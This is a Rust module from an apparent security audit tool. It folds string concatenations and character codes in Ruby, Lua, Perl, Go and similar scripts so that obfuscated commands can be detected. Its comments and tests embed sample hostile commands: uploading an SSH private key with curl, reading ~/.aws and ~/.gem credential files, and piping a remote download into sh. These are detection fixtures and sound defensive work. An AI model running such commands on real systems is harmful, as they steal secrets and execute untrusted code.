//! Scripts in languages the audit has no grammar for (Ruby, Perl, Lua,
//! Go, PHP, Rust, Java, ...), read as a stream of tokens: their string
//! literals put together where the code joins them, so that the line
//! rules see what runs.
//!
//! An attacker who writes `File.join(Dir.home, ".gem", "credentials")` in
//! a Rakefile, `home .. "/." .. "ssh/id_ed25519"` in a Lua filter or
//! `'cu' . 'rl'` in Perl needs no grammar to be read: these languages
//! share how strings are written (`"..."`, `'...'`, `` `...` ``), how they
//! are joined (`+`, `.`, `..`, `<>`, `~`, `&`, a `join` call of a list or
//! of path parts) and how their comments start (`#`, `//`, `--`). Each
//! statement whose string pieces are joined becomes one folded command,
//! with names that hold constants replaced and character codes
//! (`string.char(99, 117)`, `chr(99)`) spelt out. Nothing else is judged
//! here: flows need the grammar.

use std::collections::HashMap;

use super::{Event, Lowered, What};

/// How the language writes comments.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Comments {
    /// `#` to the end of the line (Ruby, Perl, R, Tcl, Elixir, awk, Julia).
    Hash,
    /// `//` and `/* */` (Go, Rust, Java, C#, Kotlin, Swift, Scala, Dart,
    /// C, and PHP, which also takes `#`).
    Slashes,
    /// `--` to the end of the line and `--[[ ]]` (Lua, SQL).
    Dashes,
}

/// The longest folded statement and the most statements kept.
const MAX_FOLDED: usize = 4096;
const MAX_STATEMENTS: usize = 4096;
/// The longest and the most deeply nested statement folded.
const MAX_TOKENS: usize = 2048;
const MAX_NESTING: usize = 32;

#[derive(Clone, Debug, PartialEq)]
enum Token {
    /// A string literal's text, or the words of a word list (`%w[]`,
    /// `qw()`) as a list.
    Str(String),
    Words(Vec<String>),
    Number(u32),
    Name(String),
    /// A joining operator.
    Join,
    /// The dot of a method call or a path (`File.join`, `os.path`).
    Dot,
    Open(u8),
    Close(u8),
    Comma,
    /// `=`, `:=`: an assignment.
    Assign,
    /// `+=`, `.=`: more text for a name.
    Append,
    /// The end of a statement.
    End,
    Other,
}

/// A token and where it stands.
struct Spanned {
    token: Token,
    start: usize,
    end: usize,
}

/// Lowers `source`, written with `comments`: a folded command for each
/// statement that joins string pieces, and its comments.
pub(super) fn lower(source: &str, comments: Comments, out: &mut Lowered) {
    let tokens = tokens(source, comments, out);
    let mut values: HashMap<String, Vec<String>> = HashMap::new();
    let mut kept = 0;
    for statement in tokens.split(|spanned| spanned.token == Token::End) {
        if statement.is_empty() || kept >= MAX_STATEMENTS || !within_bounds(statement) {
            continue;
        }
        let (folded, joined) = fold(statement, &values);
        if let Some(what) = hidden(statement) {
            out.events.push(Event {
                start: statement[0].start,
                end: statement[statement.len() - 1].end,
                what,
            });
        }
        // `NAME = "a" + "b"` (with `local`, `my`, `$`, `:=` around it).
        if let Some(assign) = statement
            .iter()
            .take(4)
            .position(|spanned| matches!(spanned.token, Token::Assign | Token::Append))
            && assign > 0
            && let Token::Name(name) = &statement[assign - 1].token
        {
            let name = bare(name).to_owned();
            let value = constant(&statement[assign + 1..], &values);
            match (&statement[assign].token, value) {
                (Token::Append, Some(more)) => match values.get_mut(&name) {
                    Some(old) if old.len() == 1 && more.len() == 1 => old[0].push_str(&more[0]),
                    _ => {
                        values.remove(&name);
                    }
                },
                (Token::Assign, Some(value)) => {
                    // A name given two different values is not known.
                    if values.get(&name).is_some_and(|old| *old != value) {
                        values.insert(name, Vec::new());
                    } else {
                        values.insert(name, value);
                    }
                }
                _ => {
                    values.insert(name, Vec::new());
                }
            }
        }
        if joined && !folded.trim().is_empty() {
            kept += 1;
            out.events.push(Event {
                start: statement[0].start,
                end: statement[statement.len() - 1].end,
                what: What::Command(folded),
            });
        }
    }
}

/// Calls that look a class, method or function up by its name.
const LOOKUPS: &[&str] = &[
    "const_get",
    "public_send",
    "__send__",
    "send",
    "instance_variable_get",
    "call_user_func",
    "call_user_func_array",
    "loadstring",
    "load",
    "dostring",
];

/// Names of the home folder in these languages.
const HOMES: &[&str] = &[
    "home",
    "HOME",
    "home_dir",
    "homedir",
    "UserHomeDir",
    "expand_path",
    "getpwuid",
    "USERPROFILE",
];

/// Decoders of these languages.
const DECODERS: &[&str] = &[
    "unpack1",
    "unpack",
    "decode64",
    "decode_base64",
    "base64_decode",
    "strict_decode64",
    "urlsafe_decode64",
    "DecodeString",
    "hex2bin",
    "str_rot13",
    "from_base64",
    "decode",
    "reverse",
];

/// What `statement` hides from a reader: a look-up by a computed name
/// (`Object.const_get(x)`, `obj.public_send(verb)`, `_G[name]`,
/// `$obj->$method(...)`), or a path under the home folder built from
/// text decoded at run time (`File.join(Dir.home, p.unpack1("m0"))`).
fn hidden(statement: &[Spanned]) -> Option<What> {
    let names: Vec<(usize, &str)> = statement
        .iter()
        .enumerate()
        .filter_map(|(index, spanned)| match &spanned.token {
            Token::Name(name) => Some((index, name.as_str())),
            _ => None,
        })
        .collect();
    let argument_is_computed = |index: usize| {
        let mut at = index + 1;
        if statement.get(at).map(|spanned| &spanned.token) == Some(&Token::Open(b'(')) {
            at += 1;
        }
        match statement.get(at).map(|spanned| &spanned.token) {
            Some(Token::Str(_) | Token::Close(_)) | None => false,
            // `send :name` (a Ruby symbol) is a constant.
            Some(Token::Other) => {
                statement
                    .get(at)
                    .is_some_and(|spanned| spanned.end - spanned.start != 1)
                    || !matches!(
                        statement.get(at + 1).map(|s| &s.token),
                        Some(Token::Name(_))
                    )
            }
            _ => true,
        }
    };
    for &(index, name) in &names {
        let bare_name = name.rsplit("::").next().unwrap_or(name);
        let called = index > 0 && statement[index - 1].token == Token::Dot
            || matches!(
                bare_name,
                "call_user_func" | "call_user_func_array" | "loadstring" | "load" | "dostring"
            );
        if LOOKUPS.contains(&bare_name) && called && argument_is_computed(index) {
            return Some(What::Dispatch);
        }
        // Lua's `_G[name]`, Perl's `$obj->$method(...)`.
        if name == "_G"
            && statement.get(index + 1).map(|s| &s.token) == Some(&Token::Open(b'['))
            && !matches!(
                statement.get(index + 2).map(|s| &s.token),
                Some(Token::Str(_))
            )
        {
            return Some(What::Dispatch);
        }
    }
    let home = names.iter().any(|(_, name)| HOMES.contains(&bare(name).rsplit("::").next().unwrap_or(name)))
        || statement.iter().any(|spanned| matches!(&spanned.token, Token::Str(text) if text == "HOME" || text.starts_with("~/")));
    let decoded = names.iter().any(|&(index, name)| {
        DECODERS.contains(&name.rsplit("::").next().unwrap_or(name))
            && statement
                .get(index + 1)
                .is_some_and(|next| matches!(next.token, Token::Open(b'(') | Token::Str(_)))
    });
    (home && decoded).then_some(What::Hidden(
        "builds a path under the home folder from text it decodes at run time: which files it reads is hidden",
    ))
}

/// True when `statement` is short and shallow enough to fold: folding
/// a call reads its arguments again, so a statement nested without end
/// would cost its length times its depth.
fn within_bounds(statement: &[Spanned]) -> bool {
    if statement.len() > MAX_TOKENS {
        return false;
    }
    let mut depth: usize = 0;
    for spanned in statement {
        match spanned.token {
            Token::Open(_) => {
                depth += 1;
                if depth > MAX_NESTING {
                    return false;
                }
            }
            Token::Close(_) => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    true
}

/// A name without its sigil (`$home`, `@parts`, `%map`).
fn bare(name: &str) -> &str {
    name.trim_start_matches(['$', '@', '%'])
}

/// The constant `value` holds when it is made only of string pieces,
/// joined, names that hold constants and the calls the folding knows;
/// a list of them is a list. `None` otherwise.
fn constant(value: &[Spanned], values: &HashMap<String, Vec<String>>) -> Option<Vec<String>> {
    // A typed list (`[]string{...}`, `new String[] {...}`) is its list.
    let value = match value
        .iter()
        .position(|spanned| spanned.token == Token::Open(b'{'))
    {
        Some(brace)
            if brace > 0
                && value[..brace].iter().all(|spanned| {
                    matches!(
                        spanned.token,
                        Token::Name(_) | Token::Dot | Token::Open(b'[') | Token::Close(b']')
                    )
                }) =>
        {
            &value[brace..]
        }
        _ => value,
    };
    let known = |name: &str| values.get(bare(name)).is_some_and(|value| value.len() == 1);
    let pure = value
        .iter()
        .enumerate()
        .all(|(index, spanned)| match &spanned.token {
            Token::Str(_) | Token::Words(_) | Token::Number(_) | Token::Join | Token::Comma => true,
            Token::Dot => true,
            Token::Open(_) | Token::Close(_) => true,
            // A callee or a receiver (`chr(`, `File.join`), or a constant.
            Token::Name(name) => match value.get(index + 1).map(|next| &next.token) {
                Some(Token::Open(b'(')) => is_folded_call(name),
                Some(Token::Dot) => true,
                _ => known(name),
            },
            _ => false,
        });
    if !pure || value.is_empty() {
        return None;
    }
    let first = &value[0].token;
    let last = &value[value.len() - 1].token;
    if let Token::Words(words) = first
        && value.len() == 1
    {
        return Some(words.clone());
    }
    // A list: `["a", "b"]`, `{99, 117}`, `qw(a b)`.
    if matches!(first, Token::Open(b'[' | b'{' | b'(')) && matches!(last, Token::Close(_)) {
        let inner = &value[1..value.len() - 1];
        if inner.iter().all(|spanned| {
            matches!(
                spanned.token,
                Token::Str(_) | Token::Comma | Token::Number(_)
            )
        }) {
            return Some(
                inner
                    .iter()
                    .filter_map(|spanned| match &spanned.token {
                        Token::Str(text) => Some(interpolated(text, values)),
                        Token::Number(code) => char::from_u32(*code).map(String::from),
                        _ => None,
                    })
                    .collect(),
            );
        }
    }

    let (text, _) = fold(value, values);
    (!text.is_empty()).then(|| vec![text])
}

/// `text` with the names it interpolates (`$name`, `${name}`,
/// `#{name}`) replaced by the constants they hold.
fn interpolated(text: &str, values: &HashMap<String, Vec<String>>) -> String {
    if !text.contains(['$', '#']) {
        return text.to_owned();
    }
    let mut out = String::new();
    let mut rest = text;
    while let Some(at) = rest.find(['$', '#']) {
        out.push_str(&rest[..at]);
        let after = &rest[at + 1..];
        let (name, used) = if let Some(inner) = after.strip_prefix('{') {
            // `${name}`, `#{name}`; an unclosed brace is text.
            match inner.find('}') {
                Some(end) => (&inner[..end], end + 2),
                None => ("", 0),
            }
        } else if rest.as_bytes()[at] == b'$' {
            let end = after
                .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                .unwrap_or(after.len());
            (&after[..end], end)
        } else {
            ("", 0)
        };
        match values.get(name) {
            Some(value) if value.len() == 1 && !name.is_empty() => out.push_str(&value[0]),
            _ => out.push_str(&rest[at..at + 1 + used]),
        }
        rest = &after[used..];
    }
    out.push_str(rest);
    out
}

/// The statement as the line rules should read it, and whether it joins
/// pieces (when it does not, its text says as much as the folding).
fn fold(statement: &[Spanned], values: &HashMap<String, Vec<String>>) -> (String, bool) {
    let mut out = String::new();
    let mut joined = false;
    let mut at = 0;
    // Whether the last piece written is a string the next may extend,
    // and whether a joining operator came after it.
    let mut open_piece = false;
    let mut after_join = false;
    // Writes a piece: glued to the last when joined, else a new word.
    let write = |out: &mut String, piece: &str, glued: bool| {
        if !glued && !out.is_empty() {
            out.push(' ');
        }
        out.push_str(piece);
    };
    while at < statement.len() && out.len() < MAX_FOLDED {
        let glued = open_piece && after_join;
        let joining = after_join;
        after_join = false;
        // A call that joins its arguments or spells characters, or a
        // list joined by the call after it.
        if let Some((text, next)) = folded_at(statement, at, values) {
            write(&mut out, &text, glued);
            joined = true;
            open_piece = true;
            at = next;
            continue;
        }
        match &statement[at].token {
            Token::Str(text) => {
                let text = interpolated(text, values);
                joined |= glued || text != *text_of(&statement[at].token);
                // Adjacent literals are one string (C, awk, Python).
                write(&mut out, &text, glued || open_piece);
                open_piece = true;
            }
            Token::Join => after_join = open_piece,
            Token::Name(name) => {
                let lookahead = statement.get(at + 1).map(|spanned| &spanned.token);
                if joining || lookahead == Some(&Token::Join) {
                    match values.get(bare(name)) {
                        Some(value) if value.len() == 1 => write(&mut out, &value[0], glued),
                        _ => write(&mut out, bare(name), glued),
                    }
                    joined |= glued;
                    open_piece = true;
                } else {
                    open_piece = false;
                }
            }
            _ => open_piece = false,
        }
        at += 1;
    }
    if out.len() > MAX_FOLDED {
        let mut end = MAX_FOLDED;
        while !out.is_char_boundary(end) {
            end -= 1;
        }
        out.truncate(end);
    }
    (out, joined)
}

/// What the call or the joined list at `at` folds to, and the index
/// after it.
fn folded_at(
    statement: &[Spanned],
    at: usize,
    values: &HashMap<String, Vec<String>>,
) -> Option<(String, usize)> {
    match &statement[at].token {
        Token::Name(_) => call(statement, at, values),
        Token::Words(words) => joined_list(statement, at, words),
        Token::Open(b'[' | b'{') => match list_at(statement, at, values) {
            (Some(words), close) => joined_list(statement, close, &words),
            (None, _) => None,
        },
        _ => None,
    }
}

/// The strings of the list that opens at `at` (`["a", "b"]`, `{99, 117}`)
/// when it holds only constants, and where it closes.
fn list_at(
    statement: &[Spanned],
    at: usize,
    values: &HashMap<String, Vec<String>>,
) -> (Option<Vec<String>>, usize) {
    let mut items = Vec::new();
    let mut index = at + 1;
    while let Some(spanned) = statement.get(index) {
        match &spanned.token {
            Token::Close(_) => return (Some(items), index),
            Token::Str(text) => items.push(text.clone()),
            Token::Number(code) => {
                items.push(char::from_u32(*code).map(String::from).unwrap_or_default());
            }
            Token::Name(name) if values.get(bare(name)).is_some_and(|v| v.len() == 1) => {
                items.push(values[bare(name)][0].clone());
            }
            Token::Comma | Token::Other => {}
            _ => return (None, index),
        }
        index += 1;
    }
    (None, index)
}

/// `words` joined by the `.join(SEP)` call whose list closes at `close`,
/// and the index after it.
fn joined_list(statement: &[Spanned], close: usize, words: &[String]) -> Option<(String, usize)> {
    let tokens: Vec<&Token> = statement[close + 1..]
        .iter()
        .take(6)
        .map(|spanned| &spanned.token)
        .collect();
    let (separator, used) = match tokens.as_slice() {
        [
            Token::Dot,
            Token::Name(name),
            Token::Open(b'('),
            Token::Str(sep),
            Token::Close(_),
            ..,
        ] if is_join(name) => (sep.clone(), 5),
        [
            Token::Dot,
            Token::Name(name),
            Token::Open(b'('),
            Token::Close(_),
            ..,
        ] if is_join(name) => (String::new(), 4),
        [Token::Dot, Token::Name(name), ..] if is_join(name) => (String::new(), 2),
        _ => return None,
    };
    Some((words.join(&separator), close + 1 + used))
}

/// The calls [`call`] and [`joined_list`] fold.
fn is_folded_call(name: &str) -> bool {
    is_join(name)
        || matches!(
            bare(name),
            "Combine"
                | "join_path"
                | "catfile"
                | "joinpath"
                | "resolve"
                | "char"
                | "chr"
                | "fromCharCode"
                | "fromCodePoint"
                | "FromCodePoint"
        )
}

fn is_join(name: &str) -> bool {
    matches!(
        bare(name),
        "join" | "Join" | "concat" | "implode" | "pack" | "mkString"
    )
}

/// A call at `at` whose result the folding knows: a path join
/// (`File.join`, `filepath.Join`, `path.join`, `Path.Combine`), a join of
/// a separator and parts (`join(SEP, ...)`, `strings.Join(LIST, SEP)`,
/// `table.concat(LIST, SEP)`, `implode(SEP, LIST)`) or characters from
/// their codes (`string.char(99, 117)`, `chr(99)`, `[99].pack("c*")`).
fn call(
    statement: &[Spanned],
    at: usize,
    values: &HashMap<String, Vec<String>>,
) -> Option<(String, usize)> {
    let Token::Name(name) = &statement[at].token else {
        return None;
    };
    if statement.get(at + 1).map(|spanned| &spanned.token) != Some(&Token::Open(b'(')) {
        return None;
    }
    let receiver = at
        .checked_sub(2)
        .and_then(|before| match &statement[before].token {
            Token::Name(receiver) => Some(receiver.as_str()),
            _ => None,
        })
        .unwrap_or("");
    // The arguments, each a list of the strings it folds to.
    let mut arguments: Vec<Option<Vec<String>>> = Vec::new();
    let mut depth = 0;
    let mut index = at + 2;
    let mut current = index;
    loop {
        match statement.get(index)?.token {
            Token::Open(_) => depth += 1,
            Token::Close(_) if depth == 0 => break,
            Token::Close(_) => depth -= 1,
            Token::Comma if depth == 0 => {
                arguments.push(argument(&statement[current..index], values));
                current = index + 1;
            }
            _ => {}
        }
        index += 1;
    }
    if current < index {
        arguments.push(argument(&statement[current..index], values));
    }
    let next = index + 1;
    let single = |argument: &Option<Vec<String>>| match argument {
        Some(value) if value.len() == 1 => Some(value[0].clone()),
        _ => None,
    };
    let path_like = matches!(
        receiver,
        "File" | "filepath" | "path" | "Path" | "Paths" | "os.path" | "PathBuf" | "Dir"
    ) || receiver.ends_with("path");
    let text = match bare(name) {
        "join" | "Join" | "Combine" | "join_path" | "catfile" | "joinpath" | "resolve"
            if path_like =>
        {
            let parts: Vec<String> = arguments
                .iter()
                .map(|argument| single(argument).unwrap_or_else(|| "~".to_owned()))
                .collect();
            parts.join("/")
        }
        "join" | "Join" | "concat" | "implode" if arguments.len() >= 2 => {
            match (&arguments[0], &arguments[arguments.len() - 1]) {
                // `strings.Join(LIST, SEP)`, `table.concat(LIST, SEP)`.
                (Some(list), Some(sep)) if list.len() > 1 && sep.len() == 1 => list.join(&sep[0]),
                // `join(SEP, a, b, c)`, `implode(SEP, LIST)`.
                (Some(sep), _) if sep.len() == 1 => {
                    let rest: Option<Vec<String>> = arguments[1..]
                        .iter()
                        .map(Clone::clone)
                        .collect::<Option<Vec<Vec<String>>>>()
                        .map(|parts| parts.concat());
                    rest?.join(&sep[0])
                }
                _ => return None,
            }
        }
        "char" | "chr" | "fromCharCode" | "fromCodePoint" | "FromCodePoint" => arguments
            .iter()
            .map(|argument| argument.as_ref().map(|value| value.concat()))
            .collect::<Option<String>>()?,
        "concat" if arguments.len() == 1 => arguments[0].as_ref()?.concat(),
        _ => return None,
    };
    Some((text, next))
}

/// What one argument folds to: strings joined, a list, or a character
/// code.
fn argument(tokens: &[Spanned], values: &HashMap<String, Vec<String>>) -> Option<Vec<String>> {
    match tokens {
        [one] => match &one.token {
            Token::Number(code) => Some(vec![char::from_u32(*code)?.to_string()]),
            Token::Words(words) => Some(words.clone()),
            Token::Name(name) => values.get(bare(name)).cloned(),
            Token::Str(text) => Some(vec![text.clone()]),
            _ => None,
        },
        _ => constant(tokens, values),
    }
}

/// The tokens of `source`; comments are pushed to `out` as they are met.
fn tokens(source: &str, comments: Comments, out: &mut Lowered) -> Vec<Spanned> {
    let bytes = source.as_bytes();
    let mut tokens: Vec<Spanned> = Vec::new();
    let mut depth: usize = 0;
    let mut at = 0;
    let push = |tokens: &mut Vec<Spanned>, token: Token, start: usize, end: usize| {
        tokens.push(Spanned { token, start, end });
    };
    while at < bytes.len() {
        let byte = bytes[at];
        let start = at;
        let rest = &bytes[at..];
        // Comments.
        let line_comment = match comments {
            Comments::Hash => byte == b'#',
            Comments::Slashes => {
                rest.starts_with(b"//") || (byte == b'#' && rest.get(1) != Some(&b'['))
            }
            Comments::Dashes => rest.starts_with(b"--"),
        };
        if comments == Comments::Slashes && rest.starts_with(b"/*") {
            let end = find(bytes, at + 2, b"*/").map_or(bytes.len(), |end| end + 2);
            out.events.push(Event {
                start,
                end,
                what: What::Comment,
            });
            at = end;
            continue;
        }
        if comments == Comments::Dashes && rest.starts_with(b"--[[") {
            let end = find(bytes, at + 4, b"]]").map_or(bytes.len(), |end| end + 2);
            out.events.push(Event {
                start,
                end,
                what: What::Comment,
            });
            at = end;
            continue;
        }
        if line_comment {
            let end = find(bytes, at, b"\n").unwrap_or(bytes.len());
            out.events.push(Event {
                start,
                end,
                what: What::Comment,
            });
            at = end;
            continue;
        }
        match byte {
            b'\n' | b';' => {
                // A line that ends inside brackets or after an operator
                // goes on.
                let continues = depth > 0
                    || byte == b'\n'
                        && tokens.last().is_some_and(|last| {
                            matches!(last.token, Token::Join | Token::Comma | Token::Assign)
                        });
                if !continues && tokens.last().is_some_and(|last| last.token != Token::End) {
                    push(&mut tokens, Token::End, start, start + 1);
                }
                at += 1;
            }
            b'"' | b'\'' | b'`' => {
                let (text, end) = quoted(source, at, byte);
                push(&mut tokens, Token::Str(text), start, end);
                at = end;
            }
            b'[' if rest.starts_with(b"[[") && comments == Comments::Dashes => {
                let close = find(bytes, at + 2, b"]]");
                let end = close.map_or(bytes.len(), |close| close + 2);
                let text = source[at + 2..close.unwrap_or(bytes.len())].to_owned();
                push(&mut tokens, Token::Str(text), start, end);
                at = end;
            }
            b'%' if matches!(rest.get(1), Some(b'w' | b'W' | b'i' | b'q' | b'Q'))
                && rest.get(2).is_some_and(|open| b"([{<|!/".contains(open)) =>
            {
                let (text, end) = delimited(source, at + 2);
                let token = if matches!(rest[1], b'w' | b'W' | b'i') {
                    Token::Words(text.split_whitespace().map(str::to_owned).collect())
                } else {
                    Token::Str(text)
                };
                push(&mut tokens, token, start, end);
                at = end;
            }
            b'q' if (rest.starts_with(b"qw") || rest.starts_with(b"qq"))
                && rest.get(2).is_some_and(|open| b"([{<|!/".contains(open))
                && (at == 0 || !is_word(bytes[at - 1])) =>
            {
                let (text, end) = delimited(source, at + 2);
                let token = if rest[1] == b'w' {
                    Token::Words(text.split_whitespace().map(str::to_owned).collect())
                } else {
                    Token::Str(text)
                };
                push(&mut tokens, token, start, end);
                at = end;
            }
            b'(' | b'[' | b'{' => {
                depth += 1;
                push(&mut tokens, Token::Open(byte), start, start + 1);
                at += 1;
            }
            b')' | b']' | b'}' => {
                depth = depth.saturating_sub(1);
                push(&mut tokens, Token::Close(byte), start, start + 1);
                at += 1;
            }
            b',' => {
                push(&mut tokens, Token::Comma, start, start + 1);
                at += 1;
            }
            b'0'..=b'9' => {
                let end = at
                    + rest
                        .iter()
                        .take_while(|b| b.is_ascii_alphanumeric())
                        .count();
                let digits = &source[at..end];
                let number = if let Some(hex) = digits.strip_prefix("0x") {
                    u32::from_str_radix(hex, 16).ok()
                } else {
                    digits.parse().ok()
                };
                push(
                    &mut tokens,
                    number.map_or(Token::Other, Token::Number),
                    start,
                    end,
                );
                at = end;
            }
            b'$' | b'@' | b'_' | b'a'..=b'z' | b'A'..=b'Z' => {
                let mut end = at + 1;
                while end < bytes.len()
                    && (is_word(bytes[end])
                        || bytes[end] == b':' && bytes.get(end + 1) == Some(&b':'))
                {
                    end += if bytes[end] == b':' { 2 } else { 1 };
                }
                push(
                    &mut tokens,
                    Token::Name(source[at..end].to_owned()),
                    start,
                    end,
                );
                at = end;
            }
            b'+' | b'.' | b'~' | b'&' | b'<' | b'=' | b':' => {
                let two = rest.get(..2).unwrap_or(rest);
                let (token, length) = match two {
                    b".." => (Token::Join, 2),
                    b"<>" | b"<<" => (Token::Join, 2),
                    b"+=" | b".=" => (Token::Append, 2),
                    b"==" | b"=>" | b"=~" | b"<=" | b"&&" | b"++" => (Token::Other, 2),
                    b":=" => (Token::Assign, 2),
                    _ => match byte {
                        b'+' | b'~' | b'&' => (Token::Join, 1),
                        // A method call's dot is not a join: it is
                        // followed by a name. Perl's and PHP's `.` joins
                        // with spaces or a string after it.
                        b'.' => {
                            let next = rest[1..].iter().find(|b| !b.is_ascii_whitespace());
                            let spaced = rest.get(1).is_some_and(u8::is_ascii_whitespace);
                            if spaced || matches!(next, Some(b'"' | b'\'' | b'$')) {
                                (Token::Join, 1)
                            } else {
                                (Token::Dot, 1)
                            }
                        }
                        b'=' => (Token::Assign, 1),
                        _ => (Token::Other, 1),
                    },
                };
                push(&mut tokens, token, start, start + length);
                at += length;
            }
            _ if byte.is_ascii_whitespace() => at += 1,
            _ => {
                let length = source[at..].chars().next().map_or(1, char::len_utf8);
                push(&mut tokens, Token::Other, start, start + length);
                at += length;
            }
        }
    }
    tokens
}

fn text_of(token: &Token) -> &str {
    match token {
        Token::Str(text) => text,
        _ => "",
    }
}

fn is_word(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || byte == b'_'
}

fn find(bytes: &[u8], from: usize, needle: &[u8]) -> Option<usize> {
    bytes
        .get(from..)?
        .windows(needle.len())
        .position(|window| window == needle)
        .map(|at| from + at)
}

/// The text of the string literal quoted by `quote` at `at`, escapes
/// read, and where it ends. An unclosed `'` is an apostrophe (a Rust
/// lifetime, a word in a comment the grammar does not know).
fn quoted(source: &str, at: usize, quote: u8) -> (String, usize) {
    let bytes = source.as_bytes();
    let mut text = String::new();
    let mut index = at + 1;
    while index < bytes.len() {
        let byte = bytes[index];
        if byte == quote {
            return (text, index + 1);
        }
        if byte == b'\n' && quote != b'`' {
            break;
        }
        if byte == b'\\' && quote != b'`' && index + 1 < bytes.len() {
            let (piece, used) = escape(&source[index + 1..]);
            text.push_str(&piece);
            index += 1 + used;
            continue;
        }
        let length = source[index..].chars().next().map_or(1, char::len_utf8);
        text.push_str(&source[index..index + length]);
        index += length;
    }
    // Unclosed on its line: not a string.
    (String::new(), at + 1)
}

/// One escape after a backslash: its text and how many bytes it used.
fn escape(rest: &str) -> (String, usize) {
    let mut chars = rest.chars();
    let Some(first) = chars.next() else {
        return (String::new(), 0);
    };
    match first {
        'n' => ("\n".to_owned(), 1),
        't' => ("\t".to_owned(), 1),
        'x' => {
            let hex: String = rest[1..]
                .chars()
                .take(2)
                .take_while(char::is_ascii_hexdigit)
                .collect();
            match u32::from_str_radix(&hex, 16).ok().and_then(char::from_u32) {
                Some(decoded) => (decoded.to_string(), 1 + hex.len()),
                None => ("x".to_owned(), 1),
            }
        }
        '0'..='7' => {
            let octal: String = rest
                .chars()
                .take(3)
                .take_while(|c| ('0'..='7').contains(c))
                .collect();
            match u32::from_str_radix(&octal, 8).ok().and_then(char::from_u32) {
                Some(decoded) => (decoded.to_string(), octal.len()),
                None => (String::new(), 1),
            }
        }
        other => (other.to_string(), other.len_utf8()),
    }
}

/// The text between the delimiter at `at` and its closing partner
/// (`%w[...]`, `qw(...)`), and where it ends.
fn delimited(source: &str, at: usize) -> (String, usize) {
    let bytes = source.as_bytes();
    let open = bytes[at];
    let close = match open {
        b'(' => b')',
        b'[' => b']',
        b'{' => b'}',
        b'<' => b'>',
        other => other,
    };
    let end = bytes[at + 1..]
        .iter()
        .position(|&byte| byte == close)
        .map_or(bytes.len(), |offset| at + 1 + offset);
    (source[at + 1..end].to_owned(), (end + 1).min(bytes.len()))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn folded(source: &str, comments: Comments) -> Vec<String> {
        let mut out = Lowered::default();
        lower(source, comments, &mut out);
        out.events
            .into_iter()
            .filter_map(|event| match event.what {
                What::Command(text) => Some(text),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn joins_the_pieces_each_language_joins() {
        // Ruby: a path join, a word list joined, `+`.
        let ruby = "cred = File.join(Dir.home, \".gem\", \"credentials\")\nhost = %w[stats registry example].join('.')\nurl = \"https://\" + host + \"/x\"\n";
        let found = folded(ruby, Comments::Hash);
        assert!(
            found.iter().any(|text| text.contains("/.gem/credentials")),
            "{found:?}"
        );
        assert!(
            found
                .iter()
                .any(|text| text.contains("https://stats.registry.example/x")),
            "{found:?}"
        );
        // Lua: `..` with a name that is not known, and a long string.
        let lua = "local home = os.getenv(\"HOME\")\nlocal cmd = \"curl -F k=@\" .. home .. \"/.\" .. \"ssh/id_ed25519\"\n";
        let found = folded(lua, Comments::Dashes);
        assert!(
            found
                .iter()
                .any(|text| text.contains("curl -F k=@home/.ssh/id_ed25519")),
            "{found:?}"
        );
        // Perl: `.` between strings, character codes, `join`.
        let perl = "my $c = chr(99) . chr(117) . 'rl';\nmy $u = join('', 'ht', 'tp://', 'x.example');\nsystem(\"$c -s \" . $u . ' | sh');\n";
        let found = folded(perl, Comments::Hash);
        assert!(found.iter().any(|text| text.contains("curl")), "{found:?}");
        assert!(
            found
                .iter()
                .any(|text| text.contains("curl -s http://x.example | sh")),
            "{found:?}"
        );
        // Go: `+`, `strings.Join` of a list, character codes in a list.
        let go = "p := filepath.Join(home, \".aws\", \"credentials\")\ncmd := strings.Join([]string{\"cu\", \"rl\"}, \"\")\n";
        let found = folded(go, Comments::Slashes);
        assert!(
            found.iter().any(|text| text.contains("~/.aws/credentials")),
            "{found:?}"
        );
        assert!(found.iter().any(|text| text == "curl"), "{found:?}");
        let lua_codes =
            "local cmd = string.char(99, 117, 114, 108) .. \" https://x.example | sh\"\n";
        let found = folded(lua_codes, Comments::Dashes);
        assert!(
            found
                .iter()
                .any(|text| text.contains("curl https://x.example | sh")),
            "{found:?}"
        );
    }

    #[test]
    fn leaves_alone_what_joins_nothing_and_reads_comments() {
        let source = "# a \"quoted\" + \"comment\"\nputs \"hello\"\nx = call(y)\nit's fine\n";
        assert!(folded(source, Comments::Hash).is_empty());
        let mut out = Lowered::default();
        lower(
            "// c\nlet s = 'a';\n/* b\n c */\n",
            Comments::Slashes,
            &mut out,
        );
        let comments = out
            .events
            .iter()
            .filter(|event| event.what == What::Comment)
            .count();
        assert_eq!(comments, 2);
        // Method calls are not joins; an unclosed quote is no string.
        assert!(folded("obj.method(\"a\").other(\"b\")\n", Comments::Hash).is_empty());
        assert!(
            folded("fn f<'a>(x: &'a str) -> &'a str { x }\n", Comments::Slashes)
                .iter()
                .all(|text| !text.contains("curl"))
        );
    }

    #[test]
    fn interpolation_left_open_is_text() {
        for source in [
            "x = \"https://#{A.join(\".\")}/v2\" + y\n",
            "x = \"#{\" + \"${\" + \"$\" + \"#\"\n",
            "my $u = \"${\" . 'x';\n",
        ] {
            let _ = folded(source, Comments::Hash);
        }
        // A long string left open at the end of the file, after text
        // whose characters take several bytes.
        let _ = folded("local s = [[é…ü", Comments::Dashes);
        let _ = folded("local s = [[x]", Comments::Dashes);
    }

    #[test]
    fn bounds_what_it_keeps() {
        let long = "x = \"a\" + \"b\"\n".repeat(MAX_STATEMENTS + 10);
        assert_eq!(folded(&long, Comments::Hash).len(), MAX_STATEMENTS);
        let wide = format!(
            "x = {}\"z\"\n",
            format!("\"{}\" + ", "a".repeat(1000)).repeat(100)
        );
        assert!(folded(&wide, Comments::Hash)[0].len() <= MAX_FOLDED);
    }
}
